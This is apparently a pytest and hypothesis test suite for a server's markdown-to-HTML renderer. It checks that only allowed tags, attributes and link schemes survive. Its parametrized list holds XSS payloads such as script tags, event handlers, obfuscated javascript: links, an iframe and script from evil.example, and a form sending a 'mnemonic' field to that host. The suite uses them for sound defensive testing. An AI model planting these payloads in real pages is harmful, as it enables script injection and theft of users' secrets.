import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.engine.render import to_html

ALLOWED = set(
    "a blockquote br code em h2 h3 h4 hr li ol p pre strong table tbody td th thead tr ul".split()
)

PIECES = (
    *"<>\"'[]();/`|-*",
    *(
        "![",
        "&#",
        "<!--",
        "-->",
        "script",
        "svg",
        "javascript:",
        "onclick=",
        "<a href=",
        "<img src=",
    ),
)


class _Elements(HTMLParser):
    """Collects the elements of a page with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in _Elements(html).found:
        assert tag in ALLOWED
        assert attributes.keys() <= {"href", "rel", "start", "title"}
        target = (attributes.get("href") or "").lower()
        scheme = re.match(r"[\s\x00-\x1f]*([a-z][a-z0-9+.\-]*):", target)
        assert scheme is None or scheme.group(1) in {"http", "https", "mailto"}


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "![tracker](https://evil.example/pixel.png)",
        "![x](javascript:alert(1))",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](java\nscript:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](vbscript:msgbox(1))",
        "[click](file:///etc/passwd)",
        "<javascript:alert(1)>",
        '<a href="https://x.example" onclick="alert(1)" style="color:red" target=_blank>x</a>',
        "<p onmouseover=alert(1)>text</p>",
        "<iframe src=https://evil.example></iframe>",
        "<svg><script>alert(1)</script></svg>",
        "<style>*{display:none}</style>",
        '<form action="https://evil.example"><input name=mnemonic></form>',
        "[x]: javascript:alert(1)\n\n[x]",
        '[x](https://a.example "title\' onmouseover=alert(1)")',
        "| a |\n|:-:|\n| <b onclick=alert(1)>b</b> |",
    ],
)
def test_nothing_hostile_survives(hostile: str) -> None:
    html = to_html(f"before\n\n{hostile}\n\nafter")
    assert_harmless(html)
    assert "<p>before</p>" in html
    assert "<p>after</p>" in html


@given(
    st.lists(
        st.sampled_from([*PIECES, "\n", " "]),
        max_size=40,
    ).map("".join)
    | st.text()
)
def test_any_markdown_becomes_harmless_html(markdown: str) -> None:
    assert_harmless(to_html(markdown))


def test_what_answers_are_written_with_survives() -> None:
    html = to_html(
        "## Steps\n\n1. **Open** the *app*.\n2. Tap `Send`.\n\n- one\n- two\n\n> Note\n\n---\n\n"
        "| Network | Fee |\n|---|---|\n| TRON | low |\n\n```\ncode\n```\n"
    )
    tags = {tag for tag, _ in _Elements(html).found}
    assert tags == ALLOWED - {"a", "br", "h3", "h4"}
    assert "<td>TRON</td>" in html
    assert "<strong>Open</strong>" in html


def test_a_list_keeps_the_number_that_it_starts_with() -> None:
    assert '<ol start="3">' in to_html("3. third\n4. fourth")


def test_links_survive_without_vouching_for_their_target() -> None:
    html = to_html("[help](https://help.example/a?b=1&c=2) [mail](mailto:a@b.example) [in](/zh/x)")
    links = [attributes for tag, attributes in _Elements(html).found if tag == "a"]
    targets = ["https://help.example/a?b=1&c=2", "mailto:a@b.example", "/zh/x"]
    assert [link["href"] for link in links] == targets
    assert {link["rel"] for link in links} == {"noopener noreferrer nofollow"}


def test_raw_html_is_shown_as_the_text_it_is() -> None:
    assert to_html("Type <b>123</b> & go") == "<p>Type &lt;b&gt;123&lt;/b&gt; &amp; go</p>\n"
